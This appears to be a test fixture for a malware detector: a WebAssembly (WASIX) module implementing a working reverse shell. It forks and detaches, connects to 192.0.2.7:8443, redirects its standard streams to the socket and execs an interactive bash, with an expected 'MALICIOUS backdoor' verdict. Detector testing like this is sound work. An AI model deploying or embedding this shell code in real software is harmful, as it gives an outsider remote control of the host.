;; RUN: spoor trace % --json
;; WHAT: A reverse shell for WASIX: it waits a moment, connects to its master, sends a greeting, makes the
;;   connection its standard streams and becomes a shell.
;; EXPECT: verdict=MALICIOUS family=backdoor rule=communication/c2 rule=host-interaction/process status=exited host=wasix_32v1.sock_connect:1
(module
  (import "wasix_32v1" "sock_open" (func $sock_open (param i32 i32 i32 i32) (result i32)))
  (import "wasix_32v1" "sock_connect" (func $sock_connect (param i32 i32) (result i32)))
  (import "wasix_32v1" "sock_send" (func $sock_send (param i32 i32 i32 i32 i32) (result i32)))
  (import "wasix_32v1" "fd_dup2" (func $fd_dup2 (param i32 i32 i32 i32) (result i32)))
  (import "wasix_32v1" "fd_close" (func $fd_close (param i32) (result i32)))
  (import "wasix_32v1" "thread_sleep" (func $thread_sleep (param i64) (result i32)))
  (import "wasix_32v1" "proc_fork" (func $proc_fork (param i32 i32) (result i32)))
  (import "wasix_32v1" "proc_exit" (func $proc_exit (param i32)))
  (import "wasix_32v1" "proc_exec" (func $proc_exec (param i32 i32 i32 i32)))
  (memory (export "memory") 1)
  (data (i32.const 1024) "/bin/bash")
  (data (i32.const 1040) "-i\00")
  (data (i32.const 1056) "ready\n")
  (data (i32.const 1072) "\20\04\00\00\06\00\00\00")
  ;; Port 8443 of 192.0.2.7.
  (data (i32.const 1088) "\01\00\20\fb\c0\00\02\07")
  (global $sock (mut i32) (i32.const 0))
  (func $connect (result i32)
    (if (call $sock_open (i32.const 1) (i32.const 1) (i32.const 6) (i32.const 16)) (then (return (i32.const 1))))
    (global.set $sock (i32.load (i32.const 16)))
    (call $sock_connect (global.get $sock) (i32.const 1088)))
  (func $streams (local $fd i32)
    (loop $next
      (drop (call $fd_close (local.get $fd)))
      (drop (call $fd_dup2 (global.get $sock) (local.get $fd) (i32.const 0) (i32.const 20)))
      (br_if $next (i32.lt_u (local.tee $fd (i32.add (local.get $fd) (i32.const 1))) (i32.const 3)))))
  (func (export "_start")
    ;; The parent goes, the child stays.
    (drop (call $proc_fork (i32.const 1) (i32.const 24)))
    (if (i32.load (i32.const 24)) (then (call $proc_exit (i32.const 0))))
    (drop (call $thread_sleep (i64.const 3000000000)))
    (if (call $connect) (then (return)))
    (drop (call $sock_send (global.get $sock) (i32.const 1072) (i32.const 1) (i32.const 0) (i32.const 28)))
    (call $streams)
    (call $proc_exec (i32.const 1024) (i32.const 9) (i32.const 1040) (i32.const 3))))
